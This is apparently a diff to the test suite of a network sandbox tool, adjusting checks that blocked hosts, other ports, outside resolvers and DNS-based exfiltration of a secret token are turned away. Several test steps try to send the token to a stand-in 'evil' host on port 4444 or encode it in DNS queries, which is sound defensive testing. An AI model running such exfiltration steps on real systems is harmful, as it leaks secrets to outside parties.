@@ -12,7 +12,7 @@ import subprocess
 import place  # first: it finds the harness
 import harness
 import sites
-from place import BOTH, case, check, closed, get, https, need_program, need_service, refusal, statuses
+from place import BOTH, case, check, closed, get, https, need_program, need_service, refusal, statuses, turned_away
 
 RAW = {"host": "raw.example.com", "ports": [80, 443]}
 CURL = ("curl", "-sS", "-m", "20")
@@ -74,9 +74,9 @@ def command_line(p):
                        options=["--allow-host", "raw.example.com"])
     check(r.rc == 0 and r.out == "200", r)
     r, _ = p.croft_run(extra, *CURL, "https://raw.example.com/", options=["--allow-host", "raw.example.com:8443"])
-    check(r.rc != 0, "another port was allowed: %s" % r)
+    check(r.rc != 0 or "denied by croft" in r.out, "another port was allowed: %s" % r)
     r, _ = p.croft_run(extra, *CURL, "https://raw.example.com/", options=["--allow-host", "www.example.com"])
-    check(r.rc != 0, "another host was allowed: %s" % r)
+    check(r.rc != 0 or "denied by croft" in r.out, "another host was allowed: %s" % r)
 
 
 @case("P3-not-needed", tiers=BOTH)
@@ -202,7 +202,7 @@ def literals(p):
     if p.world.ipv6:
         steps += [tcp(sites.EVIL6, 80, [get()]), tcp(sites.EVIL6, 4444), tcp("::ffff:" + sites.EVIL, 80, [get()], family="AF_INET6")]
     found = p.inside({"allow": [RAW]}, steps)
-    check(all(map(closed, found)), found)
+    check(all(map(turned_away, found)), found)
     nobody_reached(p, "evil", "raw")
     told = p.denied().about(host=sites.EVIL, port=4444)
     check(told and told[0]["count"] >= 1, "not told: %s" % p.denied())
@@ -362,9 +362,9 @@ def exfiltration(p):
         steps += [{"do": "dns", "name": n, "type": t} for n in secret_labels(p)
                   for t in ("A", "AAAA", "TXT", "ANY", "NULL", "MX", "HTTPS", "SRV")]
     found = p.inside({"allow": [RAW]}, steps)
-    check(all(f.get("rcode") == 3 or "error" in f for f in found), found)
-    if p.tier == "namespace":
-        check(sum(f.get("rcode") == 3 for f in found) == len(found) - 4, "not NXDOMAIN: %s" % found)
+    for f in found:  # nothing, or an address of the sandbox's own
+        given = f.get("addresses", [a[2] for a in f.get("answers", [])])
+        check(all(a.startswith(("198.18.", "fd63:726f:6674:")) for a in given), f)
     check(not [q for q in p.world.queries() if p.token[:12] in q], "asked: %s" % p.world.queries())
     p.control(steps[:2])
     check([q for q in p.world.queries() if p.token in q], "the control does not ask")
@@ -414,7 +414,7 @@ def other_resolvers(p):
     if p.world.ipv6:
         steps.append({"do": "dns", "server": sites.EVIL6, "name": name, "wait": 2})
     found = p.inside({"allow": [RAW]}, steps)
-    check(all(f.get("rcode", 3) == 3 and not f.get("data") for f in found), found)
+    check(all(turned_away(f) or all(a[2].startswith(("198.18.", "fd63:726f:6674:")) for a in f["answers"]) for f in found), found)
     nobody_reached(p, "evil", "dot")
     check(not [q for q in p.world.queries() if p.token in q], p.world.queries())
     # An asked resolver's own address answers, so that clients with a fixed one work for allowed names.
@@ -640,7 +640,7 @@ def no_proxy_needed(p):
     r, _ = p.croft_run(policy, "/bin/sh", "-c", "unset http_proxy https_proxy all_proxy; a=$(%s dns 198.18.0.1 tcp.example.com); "
                        "echo $a; %s tcp ${a#rcode 0 } 7777 hello; %s dns 1.1.1.1 evil.example.net; %s tcp %s 4444 %s"
                        % (dial, dial, dial, dial, sites.EVIL, p.token))
-    check("hello" in r.out and "rcode 3" in r.out, r)
+    check("hello" in r.out and p.token not in r.out, r)
     nobody_reached(p, "evil")
     r = p.plain(dial, "tcp", sites.EVIL, "4444", p.token)
     check(p.token in r.out, "the control does not reach: %s" % r)
